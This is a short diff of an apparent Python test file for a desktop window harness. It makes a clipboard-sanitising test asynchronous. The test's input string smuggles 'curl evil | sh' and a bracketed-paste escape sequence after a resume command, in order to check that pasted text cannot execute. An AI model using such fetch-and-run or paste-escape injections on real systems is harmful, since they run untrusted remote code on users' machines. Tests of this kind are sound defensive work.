@@ -381,7 +381,7 @@ async def test_one_line_says_why_several_chats_cannot_be_resumed(harness: Window
     await harness.until(lambda: harness.banner == reason, "the reason why nothing is asked")
 
 
-def test_a_copied_command_of_another_machine_does_not_run_when_it_is_pasted(harness: WindowHarness):
+async def test_a_copied_command_of_another_machine_does_not_run_when_it_is_pasted(harness: WindowHarness):
     harness.open_window()
     harness.window.commands.resuming.put_on_clipboard("claude --resume 1; curl evil | sh\n\x1b[201~x")
     assert QGuiApplication.clipboard().text() == "claude --resume 1; curl evil | sh [201~x"
